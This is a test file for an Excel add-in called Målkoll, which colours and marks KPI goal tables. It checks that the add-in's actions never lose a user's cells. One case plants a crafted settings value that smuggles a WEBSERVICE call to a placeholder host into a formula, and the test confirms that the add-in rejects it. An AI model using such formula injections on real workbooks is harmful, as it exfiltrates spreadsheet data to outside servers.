/**
 * Issue 14's twelve cases, each as it was reproduced on the indikatorer-2020 table (A1:G27): ordinary edits between
 * Färgmarkera and Ta bort must never cost the user a cell, and Ta bort must leave nothing of Målkoll's.
 */
import { STANDARDINSTALLNINGAR } from "../../src/core/skrivning/plan";
import * as ruta from "./ruta";
import {
  anvandarceller,
  forlorat,
  anvandare,
  formel,
  indikatortabell,
  installera,
  markera,
  tillaggsrester,
  varde,
} from "./hjalp";
import { kalla, kolumnref, ref } from "../helpers/excel";
import { formelfel } from "../fake";

const BLAD = "Mål 2020";

function bok() {
  return installera({ [BLAD]: indikatortabell() }, { blad: BLAD, adress: "A1" }).wb;
}

describe("issue 14: never lose the user's work", () => {
  it("1. a column inserted left of the status block, then Ta bort: the user's columns stay, Målkoll's go", async () => {
    const wb = bok();
    await ruta.farglagg();
    anvandare.infogaKolumner(wb, BLAD, "D"); // a new year column
    anvandare.skriv(wb, BLAD, "D1", "2017");
    const fore = anvandarceller(wb);
    await ruta.taBort();
    expect(forlorat(wb, fore)).toEqual([]);
    expect(formel(wb, BLAD, "H10")).toBe("7.0"); // the Målvärde column, now in H
    expect(tillaggsrester(wb)).toEqual([]);
  });

  it("2. Målkoll's status column deleted by hand, then Ta bort: the user's column to its right stays", async () => {
    const wb = bok();
    await ruta.farglagg();
    anvandare.skriv(wb, BLAD, "J1", "Kommentar");
    anvandare.skriv(wb, BLAD, "J10", "Se bilaga 2");
    anvandare.taBortKolumner(wb, BLAD, "H");
    const fore = anvandarceller(wb);
    await ruta.taBort();
    expect(forlorat(wb, fore)).toEqual([]);
    expect(formel(wb, BLAD, "I10")).toBe("Se bilaga 2");
    expect(tillaggsrester(wb)).toEqual([]);
  });

  it("3. rows added at the bottom, Läs in, Färgmarkera again: cells under the old legend are checked, not overwritten", async () => {
    const wb = bok();
    await ruta.farglagg();
    anvandare.skriv(wb, BLAD, "H36", "Anteckning");
    for (const [i, k] of ["H", "I"].entries()) anvandare.skriv(wb, BLAD, `${k}38`, ["Egen tabell", "Värde"][i]);
    anvandare.skriv(wb, BLAD, "H39", "Rad 1");
    for (let r = 28; r <= 30; r++)
      ["Medarbetare", "Goda arbetsplatser", `Ny indikator ${r}`, "", "", "5", "4"].forEach((v, i) =>
        anvandare.skriv(wb, BLAD, `${"ABCDEFG"[i]}${r}`, v),
      );
    const fore = anvandarceller(wb);
    const resultat = await ruta.farglagg();
    expect(forlorat(wb, fore)).toEqual([]);
    expect(formel(wb, BLAD, "H36")).toBe("Anteckning");
    expect(formel(wb, BLAD, "H30")).toMatch(/^=KPI\.MALUPPFYLLELSE\(F30,G30,/);
    expect(formel(wb, BLAD, "H32")).toBe("Förklaring (Målkoll):");
    expect(resultat.meddelanden).toContain("1 cell i H har ändrats av dig och lämnades kvar.");
    await ruta.taBort();
    expect(forlorat(wb, fore)).toEqual([]);
    expect(tillaggsrester(wb)).toEqual([]);
  });

  it("4. a person's formula in the status column, a comment in the goal column and typed statuses are kept", async () => {
    const wb = bok();
    await ruta.farglagg();
    anvandare.skriv(wb, BLAD, "H10", '=IF(F10>G10,"Ej uppfyllt","Uppfyllt")');
    anvandare.skriv(wb, BLAD, "I11", "Kommentar: se bilaga");
    anvandare.skriv(wb, BLAD, "H13", "Delvis uppfyllt");
    const fore = anvandarceller(wb);
    await ruta.farglagg();
    expect(forlorat(wb, fore)).toEqual([]);
    await ruta.taBort();
    expect(forlorat(wb, fore)).toEqual([]);
    expect(tillaggsrester(wb)).toEqual([]);
  });

  it("5. a write that fails midway (a merged cell in the new area) loses no typed status, and Ta bort undoes it all", async () => {
    const wb = bok();
    await ruta.farglagg();
    anvandare.skriv(wb, BLAD, "H10", "Delvis uppfyllt");
    for (let r = 28; r <= 30; r++)
      ["Medarbetare", "Goda arbetsplatser", `Ny indikator ${r}`, "", "", "5", "4"].forEach((v, i) =>
        anvandare.skriv(wb, BLAD, `${"ABCDEFG"[i]}${r}`, v),
      );
    anvandare.sammanfoga(wb, BLAD, "H35:I35");
    const fore = anvandarceller(wb);
    const fel = await ruta.farglagg().then(
      () => undefined,
      (e: Error) => e,
    );
    expect(formel(wb, BLAD, "H10")).toBe("Delvis uppfyllt");
    expect(forlorat(wb, fore)).toEqual([]);
    expect(fel?.message).toMatch(/sammanfogade celler.*Ta bort färgmarkering/);
    await ruta.taBort();
    expect(forlorat(wb, fore)).toEqual([]);
    expect(tillaggsrester(wb)).toEqual([]);
  });

  it("6. a custom XML part in Målkoll's namespace from someone else's file never makes Ta bort clear cells", async () => {
    const wb = bok();
    anvandare.laggTillXml(
      wb,
      `<malkoll xmlns="urn:malkoll:markering:1"><![CDATA[{"blad":"${BLAD}","omrade":"A1:G27","villkor":["{x}"],"tabell":"A1:G27","skapad":"2020"}]]></malkoll>`,
    );
    const fore = anvandarceller(wb);
    await ruta.taBort();
    expect(forlorat(wb, fore)).toEqual([]);
    expect(wb.delar).toHaveLength(0);
  });

  it("7. settings from a received workbook never reach a formula unchecked (no WEBSERVICE)", async () => {
    const wb = bok();
    wb.installningar.set(
      "malkoll.installningar",
      JSON.stringify({ helRad: "ja", delvisAndel: '0.1,WEBSERVICE("https://example.invalid/?"&B2)' }),
    );
    const inst = ruta.installningar();
    expect(inst).toEqual(STANDARDINSTALLNINGAR);
    // Also when a caller passes the crafted value straight on.
    await ruta.farglagg({ ...STANDARDINSTALLNINGAR, delvisAndel: '0.1,WEBSERVICE("x")' as unknown as number });
    const formler = [...wb.blad[0].celler.values()].map((c) => String(c.innehall));
    expect(formler.some((f) => /WEBSERVICE/i.test(f))).toBe(false);
    expect(formel(wb, BLAD, "H10")).toBe('=KPI.MALUPPFYLLELSE(F10,G10,"lägre är bättre",,E10)');
  });

  it("8. after Lås statusar, Färgmarkera refreshes the statuses again (locked values are Målkoll's)", async () => {
    const wb = bok();
    await ruta.farglagg();
    await ruta.lasStatusar();
    expect(varde(wb, BLAD, "H10")).toBe("Ej uppfyllt");
    anvandare.skriv(wb, BLAD, "F10", "6.5"); // a corrected utfall
    expect(varde(wb, BLAD, "H10")).toBe("Ej uppfyllt");
    await ruta.farglagg();
    expect(formel(wb, BLAD, "H10")).toMatch(/^=KPI\.MALUPPFYLLELSE/);
    expect(varde(wb, BLAD, "H10")).toBe("Uppfyllt");
    await ruta.lasStatusar();
    await ruta.taBort();
    expect(tillaggsrester(wb)).toEqual([]);
  });

  it("9a. a second table never makes Målkoll forget the first: Ta bort removes both", async () => {
    const rader = indikatortabell();
    const wb = installera(
      { [BLAD]: [...rader, [], [], [], [], [], [], [], [], ...rader] },
      { blad: BLAD, adress: "A1" },
    ).wb;
    const fore = anvandarceller(wb);
    await ruta.farglagg();
    markera(wb, BLAD, "B40");
    await ruta.farglagg();
    await ruta.taBort();
    expect(forlorat(wb, fore)).toEqual([]);
    expect(tillaggsrester(wb)).toEqual([]);
  });

  it("9b. Ta bort still works after the sheet is renamed", async () => {
    const wb = bok();
    const fore = [...anvandarceller(wb).values()];
    await ruta.farglagg();
    anvandare.bytNamn(wb, BLAD, "Mål 2020 (slutlig)");
    await ruta.taBort();
    expect([...anvandarceller(wb).values()]).toEqual(fore);
    expect(tillaggsrester(wb)).toEqual([]);
  });

  it("10. KPI.SAMMANVAGD reads every range of its repeating parameter, as Excel passes them", () => {
    // =KPI.SAMMANVAGD(H10,H13,H16:H17): the last range's second cell counts.
    expect(kalla("SAMMANVAGD", ref("Uppfyllt"), ref("Uppfyllt"), kolumnref("Uppfyllt", "Ej uppfyllt"))).toBe(
      "Delvis uppfyllt",
    );
  });

  it("11. goal formulas stay within Excel's limits at 10 000 rows with goals spread through the table", async () => {
    const rader: unknown[][] = [["Nämndmål", "Indikator", "2019", "2020", "Målvärde"]];
    for (let i = 0; i < 10000; i++) rader.push([`Mål ${i % 7}`, "Andel heltider", "50", String(40 + (i % 30)), "≥ 45"]);
    const { wb } = installera({ Blad1: rader }, { blad: "Blad1", adress: "A1" });
    await ruta.farglagg();
    const mal = [...wb.blad[0].celler.values()].map((c) => String(c.innehall)).filter((f) => f.includes("SAMMANVAGD"));
    expect(mal).toHaveLength(7);
    for (const f of mal) expect(formelfel(f)).toBeUndefined();
    // Over the goal's own rows: its first to its last (every seventh row from 2 to 9 998).
    expect(formel(wb, "Blad1", "G2")).toBe("=KPI.SAMMANVAGD.OM($F$2:$F$9998,$A$2:$A$9998,A2,$B$2:$B$9998)");
  });

  it("12. conditional formats are found by content, not by their id (the priority): a user's own rule stays", async () => {
    const wb = bok();
    await ruta.farglagg();
    anvandare.laggTillVillkor(wb, BLAD, "H2:H27", '=H2="Ej uppfyllt"', "#FF0000");
    await ruta.farglagg();
    await ruta.taBort();
    expect(wb.blad[0].villkor.map((v) => [v.formel, v.ursprung])).toEqual([['=H2="Ej uppfyllt"', "anvandare"]]);
    expect(tillaggsrester(wb)).toEqual([]);
  });
});
